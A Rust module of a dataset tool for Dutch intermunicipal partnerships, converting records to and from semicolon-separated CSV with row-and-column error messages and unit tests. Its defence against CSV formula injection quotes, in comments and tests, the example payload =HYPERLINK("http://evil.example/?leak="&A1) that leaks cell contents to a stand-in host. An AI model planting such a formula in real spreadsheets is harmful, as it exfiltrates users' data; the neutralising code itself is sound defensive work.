//! The dataset as a spreadsheet: one row per verband and member.
//!
//! Policy staff keep lists in spreadsheets, so a dataset file can be exported to CSV,
//! edited, and imported again. The round trip is lossless: record fields repeat on
//! every member row, lists sit in one cell with one item per line, and the order of
//! records and members is kept. Import accepts `;` (Dutch Excel) or `,` as separator
//! and reports each problem with its row and column.

use crate::dataset::{DatasetFile, Member, Problem, Verband};
use std::collections::HashMap;

/// The columns, in order.
pub const COLUMNS: [&str; 21] = [
    "boundary_year", "id", "name", "description", "themes", "legal_form", "website", "seat", "start_date",
    "end_date", "phase", "sources", "checked", "other_partners", "editor_note", "roo_id", "member_code",
    "member_role", "member_start_date", "member_end_date", "member_note",
];

/// Number of columns that describe the verband (the rest describe one member).
const RECORD_COLUMNS: usize = 16;

/// Columns added after the first release: a spreadsheet exported before then lacks them,
/// and imports with them empty.
const LATER_COLUMNS: [&str; 3] = ["end_date", "roo_id", "member_note"];

fn join(items: &[String]) -> String {
    items.join("\n")
}

fn text(value: &Option<String>) -> String {
    value.clone().unwrap_or_default()
}

/// Writes a dataset file as CSV with `;` separators and a byte-order mark, which
/// spreadsheet programs need to read UTF-8.
///
/// ```
/// use kaartviewer_core::csv_table::{from_csv, to_csv};
/// use kaartviewer_core::dataset::parse_file;
/// let json = r#"{"boundary_year": 2025, "verbanden": [{"id": "afval", "name": "Afval", "description": "d",
///   "themes": ["afval"], "legal_form": "nv-bv", "members": [{"code": "GM0344"}, {"code": "GM0356"}],
///   "sources": ["https://example.nl"], "checked": "2026-11-23"}]}"#;
/// let data = parse_file(json, "x.json").0.unwrap();
/// let csv = to_csv(&data);
/// assert_eq!(csv.lines().count(), 3); // header and one row per member
/// assert_eq!(from_csv(&csv, "x.csv").unwrap(), data);
/// ```
pub fn to_csv(data: &DatasetFile) -> String {
    let mut rows: Vec<Vec<String>> = vec![COLUMNS.iter().map(|c| c.to_string()).collect()];
    for v in &data.verbanden {
        let record = [
            data.boundary_year.to_string(),
            v.id.clone(),
            v.name.clone(),
            v.description.clone(),
            join(&v.themes),
            v.legal_form.clone(),
            text(&v.website),
            text(&v.seat),
            text(&v.start_date),
            text(&v.end_date),
            text(&v.phase),
            join(&v.sources),
            v.checked.clone(),
            join(&v.other_partners),
            text(&v.editor_note),
            text(&v.roo_id),
        ];
        let empty = Member::default();
        let members: Vec<&Member> = if v.members.is_empty() { vec![&empty] } else { v.members.iter().collect() };
        for m in members {
            let member = [m.code.clone(), text(&m.role), text(&m.start_date), text(&m.end_date), text(&m.note)];
            rows.push(record.iter().chain(member.iter()).cloned().collect());
        }
    }
    write_table(&rows)
}

/// Rows of cells as CSV with `;` separators and a byte-order mark, which spreadsheet
/// programs need to read UTF-8; cells are quoted where needed.
/// Cells that a spreadsheet would run as a formula are [`neutralise`]d.
pub fn write_table(rows: &[Vec<String>]) -> String {
    let mut writer = csv::WriterBuilder::new().delimiter(b';').flexible(true).from_writer(Vec::new());
    for row in rows {
        writer.write_record(row.iter().map(|cell| neutralise(cell).into_owned())).expect("writing to memory");
    }
    let bytes = writer.into_inner().expect("writing to memory");
    format!("\u{feff}{}", String::from_utf8(bytes).expect("CSV of UTF-8 strings is UTF-8"))
}

fn optional(cell: &str) -> Option<String> {
    let cell = cell.trim();
    (!cell.is_empty()).then(|| cell.to_string())
}

/// Splits a list cell: one item per line (themes and sources may also be separated by
/// `;`, `,` or spaces, which never occur inside them).
fn list(cell: &str, separators: &[char]) -> Vec<String> {
    cell.split(|c: char| c == '\n' || c == '\r' || separators.contains(&c))
        .map(str::trim)
        .filter(|s| !s.is_empty())
        .map(str::to_string)
        .collect()
}

/// Characters that make a spreadsheet read a cell as a formula (OWASP "CSV injection"):
/// `=HYPERLINK("http://evil.example/?leak="&A1)` would run when the file is opened.
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether a cell gets a `'` in front: it starts a formula, or it is `'` + such a cell
/// (so that a cell which really starts with `'=` survives the round trip).
fn needs_prefix(cell: &str) -> bool {
    cell.starts_with(FORMULA_START) || cell.strip_prefix('\'').is_some_and(needs_prefix)
}

/// A cell as written to CSV: one that a spreadsheet would run as a formula gets a `'` in
/// front (OWASP's advice), which spreadsheets show as text. A cell that already starts with
/// `'` and a formula character gets a second one, so [`restore`] can always undo it; other
/// cells, such as `'s-Hertogenbosch`, stay as they are.
///
/// ```
/// use kaartviewer_core::csv_table::{neutralise, restore};
/// assert_eq!(neutralise("=HYPERLINK(\"http://evil.example\")"), "'=HYPERLINK(\"http://evil.example\")");
/// assert_eq!(neutralise("'s-Hertogenbosch"), "'s-Hertogenbosch");
/// for cell in ["=1+1", "-5", "@SUM(A1)", "+31", "'=x", "''=x", "'s-Hertogenbosch", "gewoon"] {
///     assert_eq!(restore(&neutralise(cell)), cell);
/// }
/// ```
pub fn neutralise(cell: &str) -> std::borrow::Cow<'_, str> {
    if needs_prefix(cell) {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// Undoes [`neutralise`] on a cell read from CSV.
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if needs_prefix(rest) => rest,
        _ => cell,
    }
}

/// The line breaks (`\n`, `\r\n` or `\r`) from `at` up to the next content: the blank lines
/// the CSV reader skips, which a spreadsheet still counts as rows. A `\n` that completes the
/// previous record's `\r\n` is not one.
fn blank_lines_at(text: &[u8], at: usize) -> usize {
    let mut i = at;
    if i > 0 && text[i - 1] == b'\r' && text.get(i) == Some(&b'\n') {
        i += 1;
    }
    let mut count = 0;
    while let Some(&b) = text.get(i).filter(|&&b| b == b'\n' || b == b'\r') {
        i += if b == b'\r' && text.get(i + 1) == Some(&b'\n') { 2 } else { 1 };
        count += 1;
    }
    count
}

/// One record of the file: its row as a spreadsheet numbers it (blank lines count), its
/// cells, and whether it holds a quote that is never closed.
struct Row {
    number: usize,
    cells: Vec<String>,
    unclosed_quote: bool,
}

/// Every record of the file with its spreadsheet row number.
fn read_rows(text: &str, delimiter: u8) -> Result<Vec<Row>, (usize, String)> {
    let mut reader = csv::ReaderBuilder::new().delimiter(delimiter).flexible(true).has_headers(false).from_reader(text.as_bytes());
    let mut record = csv::StringRecord::new();
    let mut rows = Vec::new();
    let mut number = 0;
    loop {
        let start = reader.position().byte() as usize;
        match reader.read_record(&mut record) {
            Ok(false) => return Ok(rows),
            Ok(true) => {
                number += 1 + blank_lines_at(text.as_bytes(), start);
                let end = reader.position().byte() as usize;
                // Well-formed CSV has an even number of quotes in every record.
                let unclosed_quote = text.get(start..end).is_some_and(|span| span.matches('"').count() % 2 == 1);
                rows.push(Row { number, cells: record.iter().map(|c| restore(c).to_string()).collect(), unclosed_quote });
            }
            Err(e) => return Err((number + 1, e.to_string())),
        }
    }
}

/// Reads CSV written by [`to_csv`] (or edited in a spreadsheet) back into a dataset file.
///
/// Strict, so that nothing is lost without a word: every row has the header's width, each
/// column appears once, and problems name the row as the spreadsheet numbers it.
pub fn from_csv(text: &str, file: &str) -> Result<DatasetFile, Vec<Problem>> {
    let text = text.trim_start_matches('\u{feff}');
    let header_line = text.lines().find(|l| !l.trim().is_empty()).unwrap_or("");
    let delimiter = if header_line.matches(';').count() >= header_line.matches(',').count() { b';' } else { b',' };
    let at = |row: usize, column: Option<&str>, message: String| Problem {
        file: file.to_string(),
        record: Some(format!("row {row}")),
        field: column.map(|c| format!("column {c}")),
        message,
    };

    let rows = read_rows(text, delimiter).map_err(|(row, e)| vec![at(row, None, format!("cannot read the row: {e}"))])?;
    let Some((header_row, rows)) = rows.split_first() else {
        return Err(vec![at(1, None, "the file is empty: it has no header".into())]);
    };
    let header: Vec<String> = header_row.cells.iter().map(|h| h.trim().to_string()).collect();
    let mut problems = Vec::new();
    let mut position = HashMap::new();
    for column in COLUMNS {
        match header.iter().position(|h| h == column) {
            Some(i) => {
                position.insert(column, i);
            }
            None if LATER_COLUMNS.contains(&column) => {}
            None => problems.push(at(header_row.number, Some(column), "column is missing from the header".into())),
        }
    }
    for (i, name) in header.iter().enumerate() {
        if let Some(first) = header[..i].iter().position(|h| h == name) {
            problems.push(at(
                header_row.number,
                Some(name),
                format!("appears twice in the header (columns {} and {}); keep one", first + 1, i + 1),
            ));
        }
    }
    for extra in header.iter().filter(|h| !COLUMNS.contains(&h.as_str())) {
        problems.push(at(header_row.number, Some(extra), "unknown column".into()));
    }
    if !problems.is_empty() {
        return Err(problems);
    }
    let mut year: Option<(u16, usize)> = None;
    let mut verbanden: Vec<Verband> = Vec::new();
    // The row and cells each verband was first seen with, to compare repeated rows.
    let mut first_seen: HashMap<String, (usize, usize, Vec<String>)> = HashMap::new();
    for row in rows {
        let row_number = row.number;
        if row.unclosed_quote {
            let column = header.get(row.cells.len().saturating_sub(1)).map_or("?", String::as_str);
            problems.push(at(
                row_number,
                Some(column),
                "a quoted cell is never closed (a \" is missing): the rest of the file was read as this one cell".into(),
            ));
            continue;
        }
        let row = &row.cells;
        if row.iter().all(|c| c.trim().is_empty()) {
            continue;
        }
        if row.len() > header.len() {
            let extra = row[header.len()..].iter().filter(|c| !c.trim().is_empty()).count();
            if extra > 0 {
                problems.push(at(
                    row_number,
                    None,
                    format!("has {} cells, the header {}: the cells beyond column {} have no column and would be lost", row.len(), header.len(), header.len()),
                ));
                continue;
            }
        } else if row.len() < header.len() {
            problems.push(at(
                row_number,
                None,
                format!("has {} cells, the header {}: fill in or keep every column (with an empty cell)", row.len(), header.len()),
            ));
            continue;
        }
        // A column added after the first release may be missing from an older spreadsheet.
        let cell = |column: &str| position.get(column).map_or_else(String::new, |&i| row[i].clone());
        match cell("boundary_year").trim().parse::<u16>() {
            Ok(y) => match year {
                Some((first, first_row)) if first != y => problems.push(at(
                    row_number,
                    Some("boundary_year"),
                    format!("{y} differs from {first} in row {first_row}; one file has one boundary year"),
                )),
                Some(_) => {}
                None => year = Some((y, row_number)),
            },
            Err(_) => problems.push(at(row_number, Some("boundary_year"), format!("{:?} is not a year", cell("boundary_year")))),
        }
        let id = cell("id").trim().to_string();
        if id.is_empty() {
            problems.push(at(row_number, Some("id"), "is empty".into()));
            continue;
        }
        let record_cells: Vec<String> = COLUMNS[..RECORD_COLUMNS].iter().map(|c| cell(c)).collect();
        let member = optional(&cell("member_code")).map(|code| Member {
            code,
            role: optional(&cell("member_role")),
            start_date: optional(&cell("member_start_date")),
            end_date: optional(&cell("member_end_date")),
            note: optional(&cell("member_note")),
        });
        match first_seen.get(&id) {
            Some((first_row, index, cells)) => {
                for (k, column) in COLUMNS[..RECORD_COLUMNS].iter().enumerate().skip(1) {
                    if cells[k].trim() != record_cells[k].trim() {
                        problems.push(at(
                            row_number,
                            Some(column),
                            format!("differs from row {first_row} of the same verband {id:?}; fill in the same value on every row"),
                        ));
                    }
                }
                verbanden[*index].members.extend(member);
            }
            None => {
                first_seen.insert(id.clone(), (row_number, verbanden.len(), record_cells));
                verbanden.push(Verband {
                    id,
                    name: cell("name").trim().to_string(),
                    description: cell("description").trim().to_string(),
                    themes: list(&cell("themes"), &[';', ',', ' ']),
                    legal_form: cell("legal_form").trim().to_string(),
                    members: member.into_iter().collect(),
                    other_partners: list(&cell("other_partners"), &[]),
                    website: optional(&cell("website")),
                    seat: optional(&cell("seat")),
                    start_date: optional(&cell("start_date")),
                    end_date: optional(&cell("end_date")),
                    phase: optional(&cell("phase")),
                    sources: list(&cell("sources"), &[' ']),
                    checked: cell("checked").trim().to_string(),
                    editor_note: optional(&cell("editor_note")),
                    roo_id: optional(&cell("roo_id")),
                    ..Default::default()
                });
            }
        }
    }
    match (problems.is_empty(), year) {
        (true, Some((boundary_year, _))) => Ok(DatasetFile { schema: None, boundary_year, verbanden }),
        (true, None) => Err(vec![at(2, None, "the file has no rows below the header".into())]),
        (false, _) => Err(problems),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample() -> DatasetFile {
        let text = r#"{"boundary_year": 2025, "verbanden": [
          {"id": "regio-twente", "name": "Regio \"Twente\"; test", "description": "Regel één,\nregel twee",
           "themes": ["bestuur-regio", "gezondheid"], "legal_form": "openbaar-lichaam",
           "members": [{"code": "GM0153", "role": "centrumgemeente", "start_date": "2014"}, {"code": "GM0164", "end_date": "2030-12-31"}],
           "other_partners": ["Saxion, hogeschool", "Universiteit Twente"], "website": "https://www.regiotwente.nl",
           "seat": "Enschede", "start_date": "2014-01", "phase": "stabilisatie",
           "sources": ["https://www.regiotwente.nl/a", "https://www.regiotwente.nl/b?x=1;y=2"], "checked": "2026-11-23",
           "editor_note": "Ledenlijst 2024 nagaan"},
          {"id": "afval", "name": "Afval", "description": "d", "themes": ["afval"], "legal_form": "nv-bv",
           "members": [{"code": "GM0344"}], "sources": ["https://example.nl"], "checked": "2026-11-01"}]}"#;
        let (data, problems) = crate::dataset::parse_file(text, "t.json");
        assert!(problems.is_empty(), "{problems:?}");
        data.unwrap()
    }

    #[test]
    fn round_trip_is_lossless() {
        let data = sample();
        let csv = to_csv(&data);
        assert_eq!(csv.lines().filter(|l| l.contains("GM0")).count(), 3, "one row per member");
        assert_eq!(from_csv(&csv, "t.csv").unwrap(), data);
    }

    #[test]
    fn comma_separated_spreadsheets_are_read_too() {
        let data = sample();
        let semicolons = to_csv(&data);
        let mut reader = csv::ReaderBuilder::new().delimiter(b';').from_reader(semicolons.trim_start_matches('\u{feff}').as_bytes());
        let mut writer = csv::Writer::from_writer(Vec::new());
        writer.write_record(reader.headers().unwrap()).unwrap();
        for row in reader.records() {
            writer.write_record(&row.unwrap()).unwrap();
        }
        let commas = String::from_utf8(writer.into_inner().unwrap()).unwrap();
        assert_eq!(from_csv(&commas, "t.csv").unwrap(), data);
    }

    #[test]
    fn problems_name_row_and_column() {
        // Edit cells as a spreadsheet would: record rows, not text lines (cells may hold line breaks).
        let csv = to_csv(&sample());
        let mut reader = csv::ReaderBuilder::new().delimiter(b';').from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
        let mut rows: Vec<Vec<String>> = vec![reader.headers().unwrap().iter().map(str::to_string).collect()];
        rows.extend(reader.records().map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>()));
        rows[2][5] = "stichting".into(); // second member row of regio-twente: legal_form
        rows[3][0] = "20x5".into(); // row of the second verband: boundary_year
        let mut writer = csv::WriterBuilder::new().delimiter(b';').from_writer(Vec::new());
        for row in &rows {
            writer.write_record(row).unwrap();
        }
        let edited = String::from_utf8(writer.into_inner().unwrap()).unwrap();
        let problems: Vec<String> = from_csv(&edited, "t.csv").unwrap_err().iter().map(|p| p.to_string()).collect();
        assert_eq!(
            problems,
            [
                "t.csv: row 3: column legal_form: differs from row 2 of the same verband \"regio-twente\"; fill in the same value on every row",
                "t.csv: row 4: column boundary_year: \"20x5\" is not a year",
            ]
        );
        let missing = from_csv("id;name\nx;y\n", "t.csv").unwrap_err();
        assert_eq!(missing[0].to_string(), "t.csv: row 1: column boundary_year: column is missing from the header");
    }

    /// The sample as rows of cells, to edit like a spreadsheet would.
    fn sample_rows() -> Vec<Vec<String>> {
        let csv = to_csv(&sample());
        let mut reader = csv::ReaderBuilder::new().delimiter(b';').from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
        let mut rows: Vec<Vec<String>> = vec![reader.headers().unwrap().iter().map(str::to_string).collect()];
        rows.extend(reader.records().map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>()));
        rows
    }

    fn problems_of(text: &str) -> Vec<String> {
        from_csv(text, "t.csv").unwrap_err().iter().map(|p| p.to_string()).collect()
    }

    #[test]
    fn formula_cells_are_neutralised_and_restored() {
        let mut data = sample();
        data.verbanden[0].name = "=HYPERLINK(\"http://evil.example/?leak=\"&A1)".into();
        data.verbanden[0].seat = Some("@SUM(1+1)".into());
        data.verbanden[0].other_partners = vec!["+31 20".into(), "-x".into()];
        data.verbanden[1].description = "'=al geneutraliseerd".into();
        data.verbanden[1].editor_note = Some("'s-Hertogenbosch".into());
        let csv = to_csv(&data);
        let mut reader = csv::ReaderBuilder::new().delimiter(b';').from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
        for row in reader.records() {
            for cell in row.unwrap().iter() {
                assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a spreadsheet would run {cell:?}");
            }
        }
        assert!(csv.contains("\"'=HYPERLINK(") && csv.contains(";'@SUM(1+1);") && csv.contains(";''=al geneutraliseerd;"), "{csv}");
        assert!(csv.contains(";'s-Hertogenbosch;"), "an apostrophe that is no formula escape stays as it is");
        assert_eq!(from_csv(&csv, "t.csv").unwrap(), data, "lossless round trip");
    }

    #[test]
    fn rows_must_have_the_header_width() {
        let mut rows = sample_rows();
        rows[1].push("verloren".into());
        rows[2].truncate(15);
        let problems = problems_of(&write_table(&rows));
        let n = COLUMNS.len();
        assert_eq!(
            problems,
            [
                format!("t.csv: row 2: has {} cells, the header {n}: the cells beyond column {n} have no column and would be lost", n + 1),
                format!("t.csv: row 3: has 15 cells, the header {n}: fill in or keep every column (with an empty cell)"),
            ]
        );
        let mut rows = sample_rows();
        rows[1].push(String::new());
        assert_eq!(from_csv(&write_table(&rows), "t.csv").unwrap(), sample(), "an empty cell beyond the header is harmless");
    }

    #[test]
    fn a_column_twice_in_the_header_is_refused() {
        let mut rows = sample_rows();
        for row in &mut rows {
            let name = row[2].clone();
            row.push(name);
        }
        rows[0][COLUMNS.len()] = "name".into();
        assert_eq!(
            problems_of(&write_table(&rows)),
            [format!("t.csv: row 1: column name: appears twice in the header (columns 3 and {}); keep one", COLUMNS.len() + 1)]
        );
    }

    #[test]
    fn row_numbers_are_those_of_the_spreadsheet() {
        let mut rows = sample_rows();
        rows[3][0] = "20x5".into();
        let table = write_table(&rows);
        // Blank lines (with Windows line ends) before the last row: it is on spreadsheet row 8, and
        // the multi-line cells above it do not count as extra rows.
        let (head, last) = table.trim_end().rsplit_once('\n').unwrap();
        let edited = format!("{head}\r\n\r\n\r\n\n\n{last}\r\n").replace("\n", "\r\n").replace("\r\r\n", "\r\n");
        assert_eq!(problems_of(&edited), ["t.csv: row 8: column boundary_year: \"20x5\" is not a year"]);
        let unix = format!("{head}\n\n\n\n\n{last}\n");
        assert_eq!(problems_of(&unix), ["t.csv: row 8: column boundary_year: \"20x5\" is not a year"]);
    }

    #[test]
    fn an_unclosed_quote_is_named_at_its_row_and_column() {
        let mut rows = sample_rows();
        rows[3][7] = "Zwolle".into();
        let table = write_table(&rows);
        let broken = table.replacen(";Zwolle;", ";\"Zwolle;", 1);
        assert_eq!(
            problems_of(&broken),
            ["t.csv: row 4: column seat: a quoted cell is never closed (a \" is missing): the rest of the file was read as this one cell"]
        );
    }
}
